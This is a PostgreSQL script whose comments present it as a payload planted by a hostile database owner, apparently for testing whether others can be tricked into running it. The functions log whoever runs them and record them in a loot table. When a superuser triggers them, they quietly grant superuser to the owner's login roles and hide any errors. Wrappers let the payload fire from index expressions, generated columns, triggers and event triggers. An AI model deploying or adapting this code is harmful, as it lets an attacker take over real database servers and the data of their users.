-- What a hostile owner runs wherever someone else can be led to run it. Run by the owner's own login, with psql.
-- The payload leaves a proof that no roll-back and no read-only transaction takes away: a line in the server's log that
-- begins with "LOG:  loot: ". It then tries to become superuser.
create schema if not exists hostile;
grant usage on schema hostile to public;
create table if not exists hostile.loot (what text, thief text, at timestamptz default pg_catalog.clock_timestamp());
grant insert on hostile.loot to public;

create or replace function hostile.take(what text) returns boolean language plpgsql
  set search_path = pg_catalog, pg_temp as $f$
declare
  me oid := (select relowner from pg_class where oid = 'hostile.loot'::regclass);
begin
  -- What the owner's own logins run is theirs anyway.
  if current_user::text = pg_get_userbyid(me)
    or exists (select from pg_auth_members a join pg_roles r on r.oid = a.member
      where a.roleid = me and r.rolname = current_user) then
    return true;
  end if;
  raise log 'loot: % ran as %', what, current_user;
  if (select rolsuper from pg_roles where rolname = current_user) then
    begin
      execute (select string_agg(format('alter role %I superuser', r.rolname), ';')
        from pg_auth_members a join pg_roles r on r.oid = a.member where a.roleid = me and r.rolcanlogin);
    exception when others then null;
    end;
  end if;
  begin
    insert into hostile.loot values (what, current_user);
  exception when others then null;
  end;
  return true;
end $f$;

-- As the server keeps what it calls immutable in indexes, generated columns and partition keys.
create or replace function hostile.take_number(what text, n int) returns int language plpgsql immutable as $f$
begin perform hostile.take(what); return n; end $f$;

-- For a trigger, and for an event trigger where the server lets the owner make one.
create or replace function hostile.take_row() returns trigger language plpgsql as $f$
begin perform hostile.take('trigger ' || tg_name); return coalesce(new, old); end $f$;
create or replace function hostile.take_event() returns event_trigger language plpgsql as $f$
begin perform hostile.take('event trigger'); end $f$;
